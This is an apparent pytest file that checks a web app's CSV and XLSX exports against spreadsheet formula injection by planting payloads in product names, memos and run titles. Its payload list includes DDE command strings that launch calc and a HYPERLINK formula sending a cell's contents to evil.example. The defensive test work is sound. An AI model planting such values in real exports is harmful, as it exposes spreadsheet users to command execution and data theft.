"""Exports are data, never code (issue 8, hole 1): every text a user can type that reaches a CSV
or XLSX export (product names, brand and note, a holder's name, an account's name, a
transaction's memo, a valuation run's title) is planted with each
character that starts a formula, and every export is opened the way a spreadsheet program
would: no XLSX cell is a formula, no CSV cell starts with a formula character unquoted, and
the numbers are still numbers."""

from __future__ import annotations

import csv
import datetime as dt
import io
import pathlib
import re
from decimal import Decimal

import pytest
import sqlalchemy as sa
from openpyxl import load_workbook

from catalog.models import Party, Product
from ecovalue.auth.policy import system_principal
from ecovalue.spreadsheet import FORMULA_TRIGGERS, export_value, formula_safe, write_csv
from ledger.core.models import LedgerAccount
from tests.conftest import load_demo
from valuation.demo import DEMO_BOOK, demo_rows
from valuation.services import quantities, runs

#: every character that starts a formula, each with a payload after it
PAYLOADS = [f"{c}cmd|' /C calc'!A0" for c in "=+-@\t\r＝＋－＠"] + [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")', " =1+1", "-2+3", "#N/A"]
#: as read back from XLSX: XML turns a carriage return into a line feed
XLSX_PAYLOADS = {p.replace("\r", "\n") for p in PAYLOADS if p != "#N/A"}
ROOT = pathlib.Path(__file__).resolve().parents[1]


def _payload(index: int) -> str:
    return PAYLOADS[index % len(PAYLOADS)]


def _is_formula_text(text: str) -> bool:
    return text[:1] in FORMULA_TRIGGERS or text.lstrip(" \u3000")[:1] in FORMULA_TRIGGERS


def assert_xlsx_safe(data: bytes) -> list[object]:
    """No cell of any sheet is a formula or an error; text starting a formula is quoted. The
    planted texts found (without their quote) are returned."""
    workbook = load_workbook(io.BytesIO(data))
    found: list[object] = []
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type not in ("f", "e"), (sheet.title, cell.coordinate,
                                                          cell.value)
                if isinstance(cell.value, str):
                    assert not _is_formula_text(cell.value), (sheet.title, cell.coordinate)
                    if cell.value.startswith("'"):
                        found.append(cell.value[1:])
    return found


def assert_csv_safe(data: bytes) -> list[list[str]]:
    assert data.startswith("\ufeff".encode())
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    for row in rows:
        for cell in row:
            if _is_formula_text(cell):
                # only a number may start with - or + (a negative amount is not a formula)
                assert re.fullmatch(r"[-+]?\d+(\.\d+)?(e[-+]?\d+)?", cell), cell
    return rows


# --- the writer ----------------------------------------------------------------------------


@pytest.mark.parametrize("text", PAYLOADS)
def test_the_writer_quotes_text_that_would_start_a_formula(text):
    assert formula_safe(text) == "'" + text if text != "#N/A" else formula_safe(text) == text
    assert export_value(text).startswith("'") or text == "#N/A"


def test_numbers_stay_numbers_and_plain_text_is_unchanged():
    rows = [["name", "amount", "ratio", "yuan", "day"],
            ["望谟县某村", -5, -0.25, Decimal("-12.30"), dt.date(2024, 3, 1)],
            ["a-b = c", 7, float("nan"), None, None]]
    text = write_csv(rows).decode("utf-8-sig")
    assert text.splitlines() == ["name,amount,ratio,yuan,day",
                                 "望谟县某村,-5,-0.25,-12.30,2024-03-01", "a-b = c,7,,,"]


# --- every export ----------------------------------------------------------------------------


@pytest.fixture()
def planted(app, database, client, tokens):
    """The demo data with a payload in every free text that reaches an export."""
    load_demo(app)
    actor = system_principal("test")
    with database.unit_of_work() as session:
        products = list(session.scalars(sa.select(Product).order_by(Product.id)))
        for index, product in enumerate(products):
            product.name_zh = _payload(index)
            product.name_en = _payload(index + 1)
            product.brand = _payload(index + 2)
            product.attributes = {**(product.attributes or {}), "note": _payload(index + 3)}
        for index, party in enumerate(session.scalars(sa.select(Party).order_by(Party.id))):
            if party.kind != "household":
                party.name_zh = _payload(index)
        session.execute(sa.update(LedgerAccount).where(LedgerAccount.code == "DEMO-PLANT-CNY")
                        .values(name=PAYLOADS[0]))
        quantity_set = quantities.create_from_rows(session, actor, region_code="522326",
                                                   year=2024, rows=demo_rows(2024))
        run = runs.create_run(session, actor, region_code="522326", year=2024,
                              quantity_set_ids=[quantity_set.id], price_book_version=DEMO_BOOK,
                              title=PAYLOADS[0])
        run_id = run.id
    for index, payload in enumerate(PAYLOADS):
        response = client.post("/ledger/transactions", headers=tokens.finance, json={
            "type": "compensation", "memo": payload, "postings": [
                {"account": "DEMO-PLANT-CNY", "asset": "CNY", "direction": "debit",
                 "amount": 100 + index},
                {"account": "DEMO-FOREST-FUND", "asset": "CNY", "direction": "credit",
                 "amount": 100 + index}]})
        assert response.status_code == 201, response.get_json()
    return run_id


def test_products_export_holds_no_formula(planted, client, tokens):
    xlsx = client.get("/catalog/products/export?format=xlsx", headers=tokens.admin)
    assert xlsx.status_code == 200
    found = assert_xlsx_safe(xlsx.get_data())
    assert XLSX_PAYLOADS <= set(found)
    sheet = load_workbook(io.BytesIO(xlsx.get_data())).active
    header = [c.value for c in sheet[1]]
    ids = [row[header.index("id")].value for row in sheet.iter_rows(min_row=2)]
    assert ids and all(isinstance(i, int) for i in ids)
    holders = {row[header.index("holder_name")].value for row in sheet.iter_rows(min_row=2)}
    assert any(isinstance(h, str) and h.startswith("'") for h in holders)
    rows = assert_csv_safe(client.get("/catalog/products/export?format=csv",
                                      headers=tokens.admin).get_data())
    cells = {cell for row in rows for cell in row}
    assert {"'" + p for p in PAYLOADS if p != "#N/A"} <= cells


def test_statements_hold_no_formula_and_amounts_stay_numbers(planted, client, tokens):
    xlsx = client.get("/ledger/accounts/DEMO-PLANT-CNY/statement.xlsx", headers=tokens.finance)
    assert xlsx.status_code == 200
    found = assert_xlsx_safe(xlsx.get_data())
    assert XLSX_PAYLOADS <= set(found)
    rows = list(load_workbook(io.BytesIO(xlsx.get_data())).active.iter_rows(values_only=True))
    assert isinstance(rows[-1][6], int) and isinstance(rows[-1][9], float | int)
    text = client.get("/ledger/accounts/DEMO-PLANT-CNY/statement.csv",
                      headers=tokens.finance).get_data()
    cells = {cell for row in assert_csv_safe(text) for cell in row}
    assert {"'" + p for p in PAYLOADS if p != "#N/A"} <= cells


def test_valuation_exports_hold_no_formula(planted, client, tokens):
    xlsx = client.get(f"/valuation/runs/{planted}/export?format=xlsx", headers=tokens.admin)
    assert xlsx.status_code == 200
    found = assert_xlsx_safe(xlsx.get_data())
    assert PAYLOADS[0] in found  # the run's title on the summary sheet
    summary = load_workbook(io.BytesIO(xlsx.get_data()))["Summary"]
    assert summary["B1"].value == "'" + PAYLOADS[0]
    assert any(isinstance(c.value, float) for row in summary.iter_rows() for c in row)
    for table in ("detail", "indicator", "category"):
        data = client.get(f"/valuation/runs/{planted}/export?format=csv&table={table}",
                          headers=tokens.admin)
        assert data.status_code == 200, data.get_json()
        assert_csv_safe(data.get_data())


def test_every_export_goes_through_the_one_writer():
    """No module but the shell's writer builds a CSV writer or a workbook (valuation's demo
    builds an input workbook, not an export)."""
    pattern = re.compile(r"csv\.writer\(|DictWriter|(?<!reports)\.to_csv\(|\.to_excel\(|"
                         r"ExcelWriter|\bWorkbook\(")
    allowed = {"ecovalue/spreadsheet.py", "valuation/demo.py"}
    offenders = []
    for package in ("ecovalue", "catalog", "valuation", "ledger"):
        for path in (ROOT / package).rglob("*.py"):
            name = path.relative_to(ROOT).as_posix()
            if name not in allowed and pattern.search(path.read_text(encoding="utf-8")):
                offenders.append(name)
    assert offenders == []
